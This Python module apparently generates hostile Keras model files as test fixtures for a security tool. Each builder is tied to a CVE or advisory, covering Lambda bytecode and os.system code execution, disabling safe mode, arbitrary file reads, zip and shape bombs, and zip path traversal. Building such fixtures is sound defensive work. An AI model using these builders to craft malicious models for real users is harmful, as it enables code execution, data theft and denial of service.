"""Hostile files in Keras's formats, made by hand: what Keras itself would not write."""

from __future__ import annotations

import base64
import io
import json
import marshal
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from hostile.pickles import BOMB_BYTES, zipped
from hostile.trap import Hostile, Trap

Config = dict[str, Any]


def _archive(folder: Path, layers: list[Config], **members: bytes) -> Path:
    """Write a `.keras` file of these layers."""
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "digits", "layers": layers},
        "registered_name": None,
    }
    contents = {
        "metadata.json": json.dumps({"keras_version": "3.8.0"}).encode(),
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": members.pop("weights", b""),
        **members,
    }
    return zipped(folder / "model.keras", contents)


def _layer(module: str, kind: str, **config: object) -> Config:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def _lambda(trap: Trap) -> Config:
    code = compile(f"lambda x: {trap.code}", "<layer>", "eval")
    text = base64.b64encode(marshal.dumps(code.co_consts[0])).decode()
    function = {"class_name": "__lambda__", "config": {"code": text, "defaults": None}}
    return _layer("keras.layers", "Lambda", name="lambda", function=function)


def _with(*layers: Callable[[Trap], Config]) -> Callable[[Path, Trap], Path]:
    return lambda folder, trap: _archive(folder, [layer(trap) for layer in layers])


def _system(trap: Trap) -> Config:
    return {**_layer("os", "system", name="x"), "inbound_nodes": [{"args": [trap.command]}]}


def _get_file(trap: Trap) -> Config:
    where = {"fname": trap.canary.name, "origin": trap.secret.as_uri()}
    return _layer("keras.utils", "get_file", **where, cache_dir=str(trap.canary.parent))


def _switch_off(_: Trap) -> Config:
    return _layer("keras.config", "enable_unsafe_deserialization")


def _lookup(trap: Trap) -> Config:
    return _layer("keras.layers", "StringLookup", name="look", vocabulary=str(trap.secret))


def _saved_model(trap: Trap) -> Config:
    return _layer("keras.layers", "TFSMLayer", name="saved", filepath=str(trap.secret.parent))


def _h5(fill: Callable[[h5py.File], object]) -> bytes:
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        fill(file)
    return content.getvalue()


def _external_storage(folder: Path, trap: Trap) -> Path:
    def fill(file: h5py.File) -> None:
        outside = [(str(trap.secret), 0, 8)]
        file.create_dataset("layers/dense/vars/0", (2,), "float32", external=outside)

    return _archive(folder, [], weights=_h5(fill))


def _external_link(folder: Path, trap: Trap) -> Path:
    def fill(file: h5py.File) -> None:
        file["layers"] = h5py.ExternalLink(str(trap.secret), "/layers")

    return _archive(folder, [], weights=_h5(fill))


def _shape_bomb(folder: Path, _: Trap) -> Path:
    def fill(file: h5py.File) -> None:
        file.create_dataset("layers/dense/vars/0", (2**20, 2**20), "float32", chunks=(64, 64))

    return _archive(folder, [], weights=_h5(fill))


def _zip_bomb(folder: Path, _: Trap) -> Path:
    return _archive(folder, [], **{"assets/large": bytes(BOMB_BYTES)})


def _zip_traversal(folder: Path, trap: Trap) -> Path:
    return _archive(folder, [], **{f"assets/../../../{trap.canary.name}": b"text"})


def _legacy(folder: Path, trap: Trap) -> Path:
    def fill(file: h5py.File) -> None:
        model = {"class_name": "Sequential", "config": {"layers": [_lambda(trap)]}}
        file.attrs["model_config"] = json.dumps(model)
        file.attrs["keras_version"] = "2.15.0"
        file.create_group("model_weights").create_dataset("w", data=np.zeros(1))

    path = folder / "model.h5"
    path.write_bytes(_h5(fill))
    return path


KERAS = [
    Hostile("keras-lambda", "CVE-2024-3660: a Lambda layer's bytecode", _with(_lambda)),
    Hostile("keras-module", "CVE-2025-1550: any module and class in the config", _with(_system)),
    Hostile("keras-get-file", "CVE-2025-8747: a function of Keras as a layer", _with(_get_file)),
    Hostile(
        "keras-unsafe-switch",
        "CVE-2025-9906: the config switches safe mode off",
        _with(_switch_off, _lambda),
    ),
    Hostile("keras-vocabulary", "CVE-2025-12058: a layer reads any file", _with(_lookup)),
    Hostile(
        "keras-saved-model", "CVE-2026-1462: TFSMLayer loads a SavedModel", _with(_saved_model)
    ),
    Hostile("keras-h5-storage", "CVE-2026-1669: weights in any file outside", _external_storage),
    Hostile("keras-h5-link", "weights behind a link to another file", _external_link),
    Hostile("keras-h5-shape-bomb", "GHSA-xfhx-r7ww-5995: 4 TiB of weights", _shape_bomb),
    Hostile("keras-zip-bomb", "a member a thousand times larger than stored", _zip_bomb),
    Hostile("keras-zip-traversal", "a member outside the archive", _zip_traversal),
    Hostile("h5-lambda", "CVE-2025-9905: the old format ignores safe mode", _legacy),
]
